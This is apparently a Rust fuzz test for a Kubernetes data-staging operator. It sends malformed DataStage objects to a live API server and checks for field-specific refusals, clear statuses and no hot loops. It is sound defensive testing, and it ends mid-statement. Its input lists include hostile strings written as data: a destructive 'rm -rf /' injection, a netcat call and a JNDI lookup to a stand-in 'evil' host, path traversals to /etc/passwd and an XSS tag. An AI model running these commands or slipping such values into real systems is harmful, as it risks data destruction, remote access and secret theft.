//! Bad input at the API: generated DataStages (proptest strategies drawn
//! from a fixed seed, so every run sends the same objects) against the real
//! API server with the generated CRD, and the operator running.
//!
//! Each DataStage is sent as raw JSON, as `kubectl apply` would, so the
//! generator can produce what the typed struct could not hold (wrong types,
//! out-of-range integers, unknown fields). Every one must end in one of two
//! ways:
//!
//! * refused at admission (422, or 400) with a message that names the
//!   offending field (`spec.…` or `metadata.…`), or
//! * accepted, and within a deadline given a status the user can read: a
//!   phase, and a `Ready` condition with a reason and a message, for the
//!   generation that was sent (Pending with `SecretNotFound` or
//!   `NoMatchingNodes` is as clear as Failed or Succeeded).
//!
//! Meanwhile the operator must not crash and must not spin: its own
//! `/metrics` bound the reconciliations and errors per DataStage.
//!
//! The default run sends a small fixed corpus of boundary cases plus 80
//! generated ones (about a minute and a half); `FERRY_LONG=1` sends 1,000
//! generated ones. Not here: what a hostPath or a key may reach on a node's
//! disk (`security.rs`).

use std::collections::BTreeMap;
use std::sync::Arc;
use std::sync::atomic::{AtomicUsize, Ordering};
use std::time::{Duration, Instant};

use ferry_crds::DataStage;
use ferry_e2e::{Cluster, create_namespace, install_crd, object_store, start_operator, wait_for};
use futures::StreamExt as _;
use k8s_openapi::api::batch::v1::Job;
use k8s_openapi::api::core::v1::Pod;
use kube::Api;
use kube::api::{ApiResource, DynamicObject, ListParams, PostParams};
use kube::runtime::watcher;
use proptest::prelude::*;
use proptest::strategy::ValueTree as _;
use proptest::test_runner::{Config, RngAlgorithm, TestRng, TestRunner};
use serde_json::{Value, json};

const NAMESPACE: &str = "fuzz";
/// The seed of every generated case: a failure reproduces by running again.
const SEED: [u8; 32] = *b"ferry: bad input at the API v1.0";

/// Strings that have broken parsers, shells, paths and templates before.
const NASTY: &[&str] = &[
    "",
    " ",
    ".",
    "..",
    "../",
    "../../etc/passwd",
    "/",
    "//",
    ";rm -rf /",
    "&& reboot",
    "| nc evil 1",
    "$(AWS_SECRET_ACCESS_KEY)",
    "$(NODE_NAME)",
    "$$(HOME)",
    "${HOME}",
    "`id`",
    "a\nb",
    "line\r\nInjected: header",
    "%00",
    "%2e%2e%2f",
    "\u{0}",
    "x\u{0}y",
    "..\\..\\windows",
    "' OR '1'='1",
    "{{ .Values.secret }}",
    "${jndi:ldap://evil/a}",
    "--help",
    "--endpoint-url=http://evil",
    "-rf",
    "*",
    "**",
    "[",
    "[!",
    "{a,b",
    "é/ü/😀",
    "\u{202e}txt.exe",
    "\u{feff}bom",
    "\t",
    "null",
    "true",
    "-1",
    "1e309",
    "s3://",
    "file:///etc/passwd",
    "\\",
    "\"quoted\"",
    "<script>alert(1)</script>",
];

/// hostPaths that try to leave the operator's allow-list (`/mnt/ferry`).
const HOST_PATH_ESCAPES: &[&str] = &[
    "/mnt/ferry/../etc",
    "/mnt/ferry/./../x",
    "/mnt/ferryx",
    "/mnt/ferry/a/../../b",
    "/mnt/ferry/..",
    "//mnt/ferry/x",
    "/mnt/ferry/",
    "/mnt//ferry/x",
    "/etc",
    "/",
    "/mnt/ferry/a\u{0}/../../../etc",
    "/mnt/ferry/%2e%2e/etc",
    "/mnt/ferry/..\\..\\etc",
];

/// Label keys and values: valid ones, and ones the API server refuses.
const LABEL_KEYS: &[&str] = &["app", "ferry.dev/team", "bad key!", "a/b/c", "-lead", "UPPER", "é"];

/// Any short string a user might type, or one of the nasty ones, or both.
fn text() -> BoxedStrategy<String> {
    prop_oneof![
        4 => "[a-z0-9]{1,12}",
        3 => prop::sample::select(NASTY).prop_map(str::to_owned),
        2 => ("[a-z]{0,6}", prop::sample::select(NASTY), "[a-z]{0,6}").prop_map(|(a, b, c)| format!("{a}{b}{c}")),
        2 => "\\PC{0,24}",
        1 => any::<String>().prop_map(|s| s.chars().take(40).collect()),
        1 => (1usize..=300).prop_map(|n| "ab/".repeat(n)),
    ]
    .boxed()
}

/// A string far longer than any field expects (1 KiB to 192 KiB), of
/// ASCII or of multi-byte characters: large enough to test the API
/// server's CEL cost limits and a process's argument limit (128 KiB per
/// argument on Linux), small enough that an object stays under etcd's
/// 1.5 MiB request limit, so the refusal, if any, is the schema's.
fn huge() -> BoxedStrategy<String> {
    (prop::sample::select(&["a", "/x", "ü", "😀", "../"][..]), 1usize << 10..192 << 10)
        .prop_map(|(unit, bytes)| unit.repeat(bytes / unit.len()))
        .boxed()
}

/// A value of the wrong JSON type for most fields.
fn wrong_type() -> BoxedStrategy<Value> {
    prop::sample::select(vec![
        json!(null),
        json!(1),
        json!(-1.5),
        json!(true),
        json!([]),
        json!({}),
        json!(["x"]),
        json!({"a": "b"}),
    ])
    .boxed()
}

/// Integers at the edges of the fields' types and bounds.
fn edge_number() -> BoxedStrategy<Value> {
    prop::sample::select(vec![
        json!(0),
        json!(-1),
        json!(1),
        json!(100),
        json!(101),
        json!(1000),
        json!(1001),
        json!(4097),
        json!(i32::MAX),
        json!(i64::from(i32::MAX) + 1),
        json!(i64::MAX),
        json!(i64::MIN),
        json!(1.5),
        json!(1e20),
    ])
    .boxed()
}

/// A value to put where a field was.
fn mutation_value() -> BoxedStrategy<Value> {
    prop_oneof![
        5 => text().prop_map(Value::String),
        2 => wrong_type(),
        2 => edge_number(),
        1 => huge().prop_map(Value::String),
        1 => prop::sample::select(HOST_PATH_ESCAPES).prop_map(|s| Value::String(s.to_owned())),
    ]
    .boxed()
}

/// Where a mutation lands; `{key}` is a generated map key.
const MUTATION_PATHS: &[&[&str]] = &[
    &["spec", "source", "uri"],
    &["spec", "source", "endpoint"],
    &["spec", "source", "region"],
    &["spec", "source", "credentials", "name"],
    &["spec", "source", "anonymous"],
    &["spec", "source", "volume", "hostPath"],
    &["spec", "destination", "uri"],
    &["spec", "destination", "volume", "hostPath"],
    &["spec", "destination", "volume", "persistentVolumeClaim", "claimName"],
    &["spec", "destination", "volume", "persistentVolumeClaim", "subPath"],
    &["spec", "include", "0"],
    &["spec", "exclude", "0"],
    &["spec", "transfer", "concurrency"],
    &["spec", "transfer", "partSize"],
    &["spec", "transfer", "verify"],
    &["spec", "transfer", "memoryLimit"],
    &["spec", "transfer", "maxBandwidth"],
    &["spec", "transfer", "peerServeBandwidth"],
    &["spec", "placement", "nodeSelector", "{key}"],
    &["spec", "placement", "tolerations", "0", "key"],
    &["spec", "placement", "affinity"],
    &["spec", "workers"],
    &["spec", "fanout"],
    &["spec", "reclaimPolicy"],
    &["spec", "ttlSecondsAfterFinished"],
    &["spec", "backoffLimit"],
    &["spec", "activeDeadlineSeconds"],
    &["spec", "resources", "limits", "memory"],
    &["spec", "image"],
    &["spec", "serviceAccountName"],
    &["spec", "schedule"],
    &["spec", "timeZone"],
    &["spec", "suspend"],
    &["spec", "notAField"],
    &["spec"],
    &["metadata", "labels", "{key}"],
    &["metadata", "annotations", "{key}"],
];

/// Endpoints the generated stores point at, known at run time.
#[derive(Clone, Debug)]
struct Endpoints {
    minio: String,
    /// A loopback port nothing listens on: workers fail fast, never hang.
    dead: String,
}

/// A valid DataStage spec: a pull (or, less often, a push) between one of
/// the stores and a hostPath (allowed or not) or a claim that does not
/// exist, with options drawn from what the schema admits. Placement mostly
/// matches no node, so that only a few cases start workers: the point is
/// the operator's handling of the spec, and this machine has two cores.
fn valid_spec(endpoints: Endpoints, index: usize) -> BoxedStrategy<Value> {
    let store = prop_oneof![
        3 => Just(json!({"uri": "s3://datasets/demo", "endpoint": endpoints.minio, "credentials": {"name": "s3"}})),
        1 => Just(json!({"uri": "s3://datasets/demo", "endpoint": endpoints.minio, "credentials": {"name": "missing"}})),
        1 => Just(json!({"uri": "s3://datasets/nothing-here", "endpoint": endpoints.minio, "credentials": {"name": "s3"}})),
        1 => Just(json!({"uri": "s3://datasets/demo", "endpoint": endpoints.dead, "credentials": {"name": "s3"}})),
        1 => Just(json!({"uri": "gs://datasets/demo", "endpoint": endpoints.dead, "anonymous": true})),
        1 => Just(json!({"uri": "s3://no-such-bucket/demo", "endpoint": endpoints.minio, "region": "eu-west-1"})),
    ];
    let volume = prop_oneof![
        4 => Just(json!({"hostPath": format!("/mnt/ferry/case-{index}")})),
        1 => prop::sample::select(HOST_PATH_ESCAPES).prop_map(|p| json!({"hostPath": p})),
        1 => Just(json!({"persistentVolumeClaim": {"claimName": "missing-claim", "subPath": format!("case-{index}")}})),
    ];
    let placement = prop_oneof![
        5 => Just(Some(json!({"nodeSelector": {"ferry.dev/e2e-node": "nowhere"}}))),
        2 => Just(Some(json!({"nodeSelector": {"ferry.dev/e2e-node": "node-a"}}))),
        1 => Just(None),
        1 => Just(Some(json!({"tolerations": [{"operator": "Exists"}],
                              "nodeSelector": {"ferry.dev/e2e-node": "node-a"}}))),
    ];
    let transfer = prop::option::of(
        (
            prop::option::of(1i64..=4096),
            prop::option::of(prop::sample::select(&["1", "5Mi", "8MiB", "1Gi"][..])),
            prop::option::of(prop::sample::select(&["Checksum", "Size", "None"][..])),
            prop::option::of(prop::sample::select(&["64Mi", "1G"][..])),
        )
            .prop_map(|(concurrency, part, verify, bandwidth)| {
                let mut transfer = json!({});
                set(&mut transfer, &["concurrency"], concurrency.map(Value::from));
                set(&mut transfer, &["partSize"], part.map(Value::from));
                set(&mut transfer, &["verify"], verify.map(Value::from));
                set(&mut transfer, &["maxBandwidth"], bandwidth.map(Value::from));
                transfer
            }),
    );
    let extras = (
        prop::collection::vec(prop::sample::select(&["train/*", "*.bin", "**", "weights.bin"][..]), 0..3),
        prop::option::of(prop::sample::select(&["@daily", "*/5 * * * *", "0 0 31 2 *", "0 0 * * * *"][..])),
        prop::option::of(prop::sample::select(&["Europe/Berlin", "UTC", "Mars/Olympus_Mons"][..])),
        prop::option::of(0i64..=3),
        prop::option::of(1i64..=3),
        prop::option::of(prop::sample::select(&["PeerToPeer", "Direct"][..])),
        prop::option::of(prop::sample::select(&["Retain", "Delete"][..])),
        prop::option::of(any::<bool>()),
        prop::option::of(0i64..=60),
    );
    (any::<bool>(), store, volume, placement, transfer, extras)
        .prop_map(move |(push, store, volume, placement, transfer, extras)| {
            let (include, schedule, zone, backoff, workers, fanout, reclaim, suspend, ttl) = extras;
            // A push now and then; a push from a claim or to a dead store is as valid as any.
            let push = push && schedule.is_none() && index.is_multiple_of(5);
            let volume = json!({"volume": volume});
            let (source, destination) = if push { (volume, store) } else { (store, volume) };
            let mut spec = json!({"source": source, "destination": destination});
            set(&mut spec, &["placement"], placement);
            set(&mut spec, &["transfer"], transfer);
            if !include.is_empty() {
                spec["include"] = json!(include);
            }
            set(&mut spec, &["schedule"], schedule.map(Value::from));
            set(&mut spec, &["timeZone"], zone.filter(|_| schedule.is_some()).map(Value::from));
            set(&mut spec, &["backoffLimit"], backoff.map(Value::from));
            set(&mut spec, &["workers"], workers.map(Value::from));
            set(&mut spec, &["fanout"], fanout.map(Value::from));
            set(&mut spec, &["reclaimPolicy"], reclaim.map(Value::from));
            set(&mut spec, &["suspend"], suspend.map(Value::from));
            set(&mut spec, &["ttlSecondsAfterFinished"], ttl.map(Value::from));
            spec
        })
        .boxed()
}

/// A DataStage name: mostly short, sometimes as long as a name may be
/// (253 characters, dotted), sometimes not a name at all. `index` keeps
/// every valid one unique.
fn name(index: usize) -> BoxedStrategy<String> {
    let segment = "[a-z0-9]([a-z0-9-]{0,20}[a-z0-9])?";
    prop_oneof![
        6 => segment.prop_map(move |s| format!("c{index}-{s}")),
        1 => (50usize..=63).prop_map(move |n| format!("c{index}-{}", "n".repeat(n))).prop_map(|s| s[..s.len().min(63)].to_owned()),
        1 => (64usize..=253).prop_map(move |n| {
            let mut name = format!("c{index}");
            while name.len() < n { name.push_str(if name.len() % 60 == 59 { "." } else { "x" }); }
            name.trim_end_matches('.').to_owned()
        }),
        1 => prop::sample::select(&["UPPER", "under_score", "-lead", "trail-", "a..b", "", "é"][..])
            .prop_map(move |s| format!("c{index}{s}")),
    ]
    .boxed()
}

/// One generated case: a valid spec, then zero to three mutations.
fn case(endpoints: Endpoints, index: usize) -> BoxedStrategy<Value> {
    let mutation = (prop::sample::select(MUTATION_PATHS), prop::sample::select(LABEL_KEYS), mutation_value());
    (name(index), valid_spec(endpoints, index), prop::collection::vec(mutation, 0..=3))
        .prop_map(|(name, spec, mutations)| {
            let mut object =
                json!({"apiVersion": "ferry.dev/v1alpha1", "kind": "DataStage", "metadata": {"name": name}, "spec": spec});
            for (path, key, value) in mutations {
                let path: Vec<&str> = path.iter().map(|s| if *s == "{key}" { key } else { *s }).collect();
                set(&mut object, &path, Some(value));
            }
            object
        })
        .boxed()
}

/// Sets `path` in `value` (creating objects, or an array for a numeric
/// segment, on the way); `None` leaves it as it is.
fn set(value: &mut Value, path: &[&str], new: Option<Value>) {
    let Some(new) = new else { return };
    let Some((last, parents)) = path.split_last() else {
        *value = new;
        return;
    };
    let mut at = value;
    for (i, segment) in parents.iter().enumerate() {
        let next_is_index = path[i + 1].parse::<usize>().is_ok();
        at = child(at, segment, if next_is_index { json!([]) } else { json!({}) });
    }
    match (at, last.parse::<usize>()) {
        (Value::Array(items), Ok(index)) => {
            if index < items.len() {
                items[index] = new;
            } else {
                items.push(new);
            }
        }
        (Value::Object(map), _) => {
            map.insert((*last).to_owned(), new);
        }
        (other, _) => {
            let mut map = serde_json::Map::new();
            map.insert((*last).to_owned(), new);
            *other = Value::Object(map);
        }
    }
}

/// The child `segment` of `at`, created as `empty` when missing, or when
/// it (or `at`) is not a container.
fn child<'a>(at: &'a mut Value, segment: &str, empty: Value) -> &'a mut Value {
    if let (true, Ok(index)) = (at.is_array(), segment.parse::<usize>()) {
        let items = at.as_array_mut().expect("an array");
        if index >= items.len() {
            items.push(empty);
            return items.last_mut().expect("just pushed");
        }
        return &mut items[index];
    }
    if !at.is_object() {
        *at = json!({});
    }
    let slot = at.as_object_mut().expect("an object").entry(segment.to_owned()).or_insert_with(|| empty.clone());
    if !slot.is_object() && !slot.is_array() {
        *slot = empty;
    }
    slot
}

/// Hand-picked boundary cases the generator reaches only by luck, each
/// with why it is interesting.
fn boundary_cases(endpoints: &Endpoints) -> Vec<(String, Value)> {
    let pull = |host_path: &str| {
        json!({"source": {"uri": "s3://datasets/demo", "endpoint": endpoints.minio, "credentials": {"name": "s3"}},
               "destination": {"volume": {"hostPath": host_path}},
               "placement": {"nodeSelector": {"ferry.dev/e2e-node": "node-a"}}})
    };
    let with = |name: &str, path: &[&str], value: Value, base: Value| {
        let mut spec = base;
        set(&mut spec, path, Some(value));
        (name.to_owned(), spec)
    };
    let long_name = (0..4).map(|_| "x".repeat(60)).collect::<Vec<_>>().join(".");
    vec![
        // The API server does not check `format: int32`; the operator's
        // typed client does. One such object must not stall the rest.
        with(
            "b-ttl-int32-overflow",
            &["ttlSecondsAfterFinished"],
            json!(i64::from(i32::MAX) + 1),
            pull("/mnt/ferry/b1"),
        ),
        with("b-deadline-i64-max", &["activeDeadlineSeconds"], json!(i64::MAX), pull("/mnt/ferry/b2")),
        with("b-workers-float", &["workers"], json!(1.5), pull("/mnt/ferry/b3")),
        // One argument of 192 KiB is over Linux's 128 KiB per argument: the
        // worker cannot even start, and must say so.
        with("b-include-192k", &["include"], json!(["a".repeat(192 << 10)]), pull("/mnt/ferry/b4")),
        // RE2's `.` does not match a newline: the uri rule refuses it.
        with("b-uri-newline", &["source", "uri"], json!("s3://datasets/demo\n"), pull("/mnt/ferry/b5")),
        with(
            "b-hostpath-nul",
            &["destination", "volume", "hostPath"],
            json!("/mnt/ferry/a\u{0}b"),
            pull("/mnt/ferry/b6"),
        ),
        with("b-timezone-path", &["timeZone"], json!("../../../../etc/passwd"), {
            let mut spec = pull("/mnt/ferry/b7");
            spec["schedule"] = json!("@daily");
            spec
        }),
        with("b-never-fires", &["schedule"], json!("0 0 31 2 *"), pull("/mnt/ferry/b8")),
        // Object names may be 253 characters; label values only 63, and
        // the operator labels its Jobs with the DataStage's name.
        (format!("{long_name}.b9"), pull("/mnt/ferry/b9")),
        (format!("b10-{}", "x".repeat(60)), {
            let mut spec = pull("/mnt/ferry/b10");
            spec["destination"] = json!({"volume": {"persistentVolumeClaim": {"claimName": "missing-claim"}}});
            spec
        }),
        with("b-prefix-unicode", &["source", "uri"], json!("s3://datasets/é/😀/\u{202e}"), pull("/mnt/ferry/b11")),
        // The schema takes Kubernetes' placement types as they are, without
        // their syntax: the pod the spec makes would be refused.
        with("b-selector-value", &["placement", "nodeSelector"], json!({"zone": "é"}), pull("/mnt/ferry/b12")),
        with(
            "b-toleration-key",
            &["placement", "tolerations"],
            json!([{"key": "<script>alert(1)</script>", "operator": "Exists"}]),
            pull("/mnt/ferry/b13"),
        ),
        // Not checked by the operator: the API server refuses the Job.
        with(
            "b-requests-over-limits",
            &["resources"],
            json!({"requests": {"cpu": "2"}, "limits": {"cpu": "1"}}),
            pull("/mnt/ferry/b14"),
        ),
        // A long name with several pods per node: the Indexed Job's last
        // pod is named `<job>-<index>`, which must still be a DNS label.
        with(&format!("b15-{}", "n".repeat(59)), &["workers"], json!(3), pull("/mnt/ferry/b15")),
    ]
}

/// POSTs `object` as it is: not through `DynamicObject`, whose typed
/// metadata could not carry a label of the wrong type.
async fn create_raw(client: &kube::Client, object: &Value) -> Result<(), kube::Error> {
    let request = kube::core::Request::new(format!("/apis/ferry.dev/v1alpha1/namespaces/{NAMESPACE}/datastages"))
        .create(&PostParams::default(), serde_json::to_vec(object).expect("JSON"))
        .map_err(kube::Error::BuildRequest)?;
    client.request::<Value>(request).await.map(drop)
}

/// What happened to one case.
#[derive(Debug)]
enum Outcome {
    /// Refused at admission: HTTP code and message.
    Refused(u16, String),
    /// Accepted.
    Accepted,
}

/// Whether a DataStage's status is one a user can act on, and a short
/// description of it either way.
fn clear_state(object: &DynamicObject) -> (bool, String) {
    let status = object.data.get("status").cloned().unwrap_or(Value::Null);
    let phase = status["phase"].as_str().unwrap_or_default().to_owned();
    let ready = status["conditions"].as_array().into_iter().flatten().find(|c| c["type"] == "Ready");
    let reason = ready.and_then(|c| c["reason"].as_str()).unwrap_or_default();
    let message = ready.and_then(|c| c["message"].as_str()).unwrap_or_default();
    let current = status["observedGeneration"].as_i64() == object.metadata.generation;
    let clear = !phase.is_empty() && !reason.is_empty() && !message.trim().is_empty() && current;
    (clear, format!("{phase}/{reason}"))
}

/// Sum of every sample of `family` (all label sets).
fn sum_samples(exposition: &str, family: &str) -> f64 {
    exposition
        .lines()
        .filter(|line| line.strip_prefix(family).is_some_and(|rest| rest.starts_with(['{', ' '])))
        .filter_map(|line| line.rsplit(' ').next()?.parse::<f64>().ok())
        .sum()
}

/// Changes to workers' Jobs and pods as the API server reports them.
#[derive(Default)]
struct Changes {
    /// Every change (created, updated, deleted).
    all: AtomicUsize,
    /// Objects created (a uid not seen before).
    created: AtomicUsize,
    /// Status entries written by running stagers (their live progress,
    /// every few seconds), each of which wakes its DataStage.
    reports: AtomicUsize,
}

/// Counts into `changes` every change to an object of kind `K` that the
/// API server reports once the watch's first list is in (when this
/// returns), until the returned task is aborted.
async fn count_changes<K>(client: kube::Client, changes: Arc<Changes>) -> tokio::task::JoinHandle<()>
where
    K: kube::Resource<DynamicType = ()> + Clone + serde::de::DeserializeOwned + std::fmt::Debug + Send + 'static,
{
    let (listed, is_listed) = tokio::sync::oneshot::channel();
    let task = tokio::spawn(async move {
        let mut listed = Some(listed);
        let mut seen = std::collections::HashSet::new();
        let mut events = std::pin::pin!(watcher::watcher(Api::<K>::all(client), watcher::Config::default()));
        while let Some(event) = events.next().await {
            match event {
                Ok(watcher::Event::InitApply(object)) => {
                    seen.insert(object.meta().uid.clone());
                }
                Ok(watcher::Event::InitDone) => {
                    if let Some(listed) = listed.take() {
                        let _ = listed.send(());
                    }
                }
                Ok(watcher::Event::Apply(object) | watcher::Event::Delete(object)) => {
                    changes.all.fetch_add(1, Ordering::Relaxed);
                    if seen.insert(object.meta().uid.clone()) {
                        changes.created.fetch_add(1, Ordering::Relaxed);
                    }
                }
                _ => {}
            }
        }
    });
    let _ = is_listed.await;
    task
}

/// Counts into `changes.reports` every live status entry a stager writes
/// into a DataStage: a managed-fields entry of a stager's field manager
/// (`names::worker_manager`) whose time moved.
async fn count_reports(client: kube::Client, changes: Arc<Changes>) -> tokio::task::JoinHandle<()> {
    let (listed, is_listed) = tokio::sync::oneshot::channel();
    let task = tokio::spawn(async move {
        let mut listed = Some(listed);
        let mut last: std::collections::HashMap<(Option<String>, String), String> = Default::default();
        // Every stager's field manager: the worker's name after this prefix.
        let stager_manager = ferry_crds::names::worker_manager("");
        let mut events = std::pin::pin!(watcher::watcher(
            Api::<DataStage>::namespaced(client, NAMESPACE),
            watcher::Config::default()
        ));
        while let Some(event) = events.next().await {
            let (object, counted) = match event {
                Ok(watcher::Event::InitApply(object)) => (object, false),
                Ok(watcher::Event::Apply(object)) => (object, true),
                Ok(watcher::Event::InitDone) => {
                    if let Some(listed) = listed.take() {
                        let _ = listed.send(());
                    }
                    continue;
                }
                _ => continue,
            };
            for entry in object.metadata.managed_fields.iter().flatten() {
                let Some(manager) = entry.manager.as_deref().filter(|m| m.starts_with(&stager_manager)) else {
                    continue;
                };
                let time = entry.time.as_ref().map(|t| t.0.to_string()).unwrap_or_default();
                let key = (object.metadata.uid.clone(), manager.to_owned());
                if last.insert(key, time.clone()).is_none_or(|before| before != time) && counted {
                    changes.reports.fetch_add(1, Ordering::Relaxed);
                }
            }
        }
    });
    let _ = is_listed.await;
    task
}

/// Reconciliations and reconcile errors so far.
fn reconcile_counts(port: u16) -> (f64, f64) {
    let (code, exposition) = ferry_testkit::http_get(port, "/metrics").expect("the operator serves /metrics");
    assert_eq!(code, 200, "{exposition}");
    (
        sum_samples(&exposition, "ferry_operator_reconciles_total"),
        sum_samples(&exposition, "ferry_operator_reconcile_errors_total"),
    )
}

/// `reconcile failed` lines of the operator's JSON log, counted per
/// DataStage with the last error of each: which objects the errors
/// come from.
fn reconcile_failures(log: &std::path::Path) -> BTreeMap<String, (usize, String)> {
    let mut failures: BTreeMap<String, (usize, String)> = BTreeMap::new();
    for line in std::fs::read_to_string(log).unwrap_or_default().lines() {
        let Ok(entry) = serde_json::from_str::<Value>(line) else { continue };
        let fields = &entry["fields"];
        if fields["message"] != "reconcile failed" {
            continue;
        }
        let name = fields["datastage"].as_str().unwrap_or("?").to_owned();
        let error =
            format!("{}: {}", fields["category"].as_str().unwrap_or("?"), fields["error"].as_str().unwrap_or(""));
        let slot = failures.entry(name).or_default();
        slot.0 += 1;
        slot.1 = error;
    }
    failures
}

/// The first field path a refusal names: `spec…` or `metadata…` as the
/// API server's validation writes them, or `ObjectMeta.…` as its JSON
/// decoder does for metadata of the wrong type.
fn field_named(message: &str) -> Option<&str> {
    message
        .split([' ', '"', ',', '['])
        .map(|word| word.trim_end_matches(':'))
        .find(|word| ["spec", "metadata.", "ObjectMeta."].iter().any(|p| word.starts_with(p)))
}

fn shorten(text: &str, limit: usize) -> String {
    let flat = text.replace('\n', "\\n");
    if flat.chars().count() <= limit { flat } else { format!("{}…", flat.chars().take(limit).collect::<String>()) }
}

#[tokio::test(flavor = "multi_thread")]
async fn generated_datastages_are_refused_naming_the_field_or_reach_a_clear_state_without_a_hot_loop() {
    let long = crate::long();
    let generated = if long { 1000 } else { 80 };
    let started = Instant::now();

    let s3 = object_store();
    s3.create_bucket("datasets").await;
    for key in ["demo/train/000.bin", "demo/weights.bin"] {
        s3.put("datasets", key, ferry_testkit::pattern(1, 4096)).await;
    }
    let cluster = Cluster::start().await.expect("cluster");
    let client = cluster.client().await.unwrap();
    install_crd(&cluster).await;
    create_namespace(&cluster, NAMESPACE, &[]).await;
    let secret = json!({"apiVersion": "v1", "kind": "Secret", "metadata": {"name": "s3"},
        "stringData": {"AWS_ACCESS_KEY_ID": s3.access_key, "AWS_SECRET_ACCESS_KEY": s3.secret_key}});
    Api::<k8s_openapi::api::core::v1::Secret>::namespaced(client.clone(), NAMESPACE)
        .create(&PostParams::default(), &serde_json::from_value(secret).unwrap())
        .await
        .unwrap();
    let logs = tempfile::tempdir().unwrap();
    let (mut operator, url) = start_operator(&cluster, logs.path(), "operator-fuzz");
    let port: u16 = url.rsplit(':').next().and_then(|p| p.parse().ok()).expect("the operator's port");
    wait_for(&cluster, "the operator's /metrics", Duration::from_secs(30), || async move {
        ferry_testkit::http_get(port, "/metrics").filter(|(code, _)| *code == 200)
    })
    .await;

    let endpoints =
        Endpoints { minio: s3.endpoint.clone(), dead: format!("http://127.0.0.1:{}", ferry_testkit::free_port()) };
    let mut runner = TestRunner::new_with_rng(Config::default(), TestRng::from_seed(RngAlgorithm::ChaCha, &SEED));
    let mut cases: Vec<(String, Value)> = boundary_cases(&endpoints)
        .into_iter()
        .map(|(name, spec)| {
            let object = json!({"apiVersion": "ferry.dev/v1alpha1", "kind": "DataStage",
                                "metadata": {"name": name}, "spec": spec});
            (name, object)
        })
        .collect();
    for index in 0..generated {
        let object = case(endpoints.clone(), index).new_tree(&mut runner).expect("a generated case").current();
        cases.push((object["metadata"]["name"].as_str().unwrap_or_default().to_owned(), object));
    }

    let raw: Api<DynamicObject> =
        Api::namespaced_with(client.clone(), NAMESPACE, &ApiResource::erase::<DataStage>(&()));
    // Counted from here: DataStages accepted early are reconciled, and
    // requeued, while the later ones are still being sent. Their workers'
    // Jobs and pods wake them as they change, so those changes are counted
    // too (the bounds below).
    let changes = Arc::new(Changes::default());
    let watches = [
        count_changes::<Pod>(client.clone(), changes.clone()).await,
        count_changes::<Job>(client.clone(), changes.clone()).await,
        count_reports(client.clone(), changes.clone()).await,
    ];
    let before = reconcile_counts(port);
    let counting = Instant::now();
    let mut outcomes: Vec<(String, Value, Outcome)> = Vec::new();
    let mut violations: Vec<String> = Vec::new();
    for (name, object) in cases {
        let outcome = match create_raw(&client, &object).await {
            Ok(()) => Outcome::Accepted,
            Err(kube::Error::Api(status)) => Outcome::Refused(status.code, status.message),
            Err(other) => panic!("{name}: the API server did not answer: {other}"),
        };
        if let Outcome::Refused(code, message) = &outcome {
            let names_field = field_named(message).is_some();
            if !matches!(code, 400 | 422) || !names_field {
                violations.push(format!(
                    "{}: refused with {code} without naming the field: {}",
                    shorten(&name, 80),
                    shorten(message, 400)
                ));
            }
        }
        outcomes.push((name, object, outcome));
    }
    let sent = Instant::now();
    let accepted: Vec<&str> =
        outcomes.iter().filter(|(_, _, o)| matches!(o, Outcome::Accepted)).map(|(n, _, _)| n.as_str()).collect();
    println!(
        "sent {} DataStages in {:.1}s: {} accepted, {} refused",
        outcomes.len(),
        sent.duration_since(started).as_secs_f64(),
        accepted.len(),
        outcomes.len() - accepted.len()
    );

    // Every accepted one gets a clear status; on a loaded two-core
    // machine the slowest path (a worker pod that starts and fails) takes
    // tens of seconds, hence the deadline.
    let deadline = Duration::from_secs(if long { 600 } else { 90 });
    let mut states: BTreeMap<String, (bool, String)> = BTreeMap::new();
    let (mut unclear, mut last_cleared) = (accepted.len(), Duration::ZERO);
    loop {
        if let Ok(list) = raw.list(&ListParams::default()).await {
            states = list.items.iter().map(|o| (o.metadata.name.clone().unwrap_or_default(), clear_state(o))).collect();
        }
        let now_unclear = accepted.iter().filter(|n| !states.get(**n).is_some_and(|(clear, _)| *clear)).count();
        if now_unclear < unclear {
            (unclear, last_cleared) = (now_unclear, sent.elapsed());
        }
        if unclear == 0 || sent.elapsed() > deadline {
            break;
        }
        tokio::time::sleep(Duration::from_secs(1)).await;
    }
    println!(
        "{} of {} accepted reached a clear state, the last after {last_cleared:.0?}",
        accepted.len() - unclear,
        accepted.len()
    );
    // A quiet window: no one edits a DataStage, so the only reconciliations
    // are the requeues of DataStages still waiting (every 3 s at the most)
    // and the wake-ups by their workers' Jobs and pods, which go on
    // changing while those run, start again or fail (a pull from the dead
    // endpoint retries), and by the live progress running stagers write
    // into the status: each change the API server reports is counted, and
    // nothing may fail.
    let settled = Instant::now();
    let after_settling = reconcile_counts(port);
    let (changes_before, created_before, reports_before) = (
        changes.all.load(Ordering::Relaxed),
        changes.created.load(Ordering::Relaxed),
        changes.reports.load(Ordering::Relaxed),
    );
    let window = Duration::from_secs(15);
    tokio::time::sleep(window).await;
    let after_window = reconcile_counts(port);
    let worker_changes = (changes.all.load(Ordering::Relaxed) - changes_before) as f64;
    let quiet_created = changes.created.load(Ordering::Relaxed) - created_before;
    let quiet_reports = (changes.reports.load(Ordering::Relaxed) - reports_before) as f64;
    watches.iter().for_each(tokio::task::JoinHandle::abort);

    let failures = reconcile_failures(operator.log_path());
    for name in &accepted {
        match states.get(*name) {
            Some((true, _)) => {}
            state => {
                let errors =
                    failures.get(*name).map(|(n, e)| format!("; {n} reconcile errors, last: {}", shorten(e, 300)));
                // Names may have 253 characters, label values 63: the
                // operator's Jobs and peer Secret carry the name as a label.
                let known = if name.len() > 63 {
                    " [DEFECT: a DataStage name over 63 characters is copied into the ferry.dev/datastage label of its Jobs and peer Secret, which the API server refuses; the reconcile fails every few seconds and no status is ever written]"
                } else {
                    ""
                };
                violations.push(format!(
                    "{}: accepted but no clear status after {deadline:?} (state {:?}){}{known}",
                    shorten(name, 80),
                    state.map(|(_, s)| s.as_str()).unwrap_or("gone"),
                    errors.unwrap_or_default()
                ));
            }
        }
    }

    // The boundary cases of placement end where the user is told what to
    // fix: the operator's own check where it has one, else the API
    // server's refusal of the Job; a long name with several pods per node
    // is not refused at all.
    let expected = [
        ("b-selector-value", "Failed/InvalidPlacement"),
        ("b-toleration-key", "Failed/InvalidPlacement"),
        ("b-requests-over-limits", "Failed/InvalidWorkerJob"),
    ];
    for (name, state) in expected {
        let reached = states.get(name).map(|(_, s)| s.as_str());
        if reached != Some(state) {
            violations.push(format!("{name}: ended {reached:?}, not {state}"));
        }
    }
    let sharded = format!("b15-{}", "n".repeat(59));
    if let Some((_, state)) = states.get(&sharded)
        && state.contains("InvalidWorkerJob")
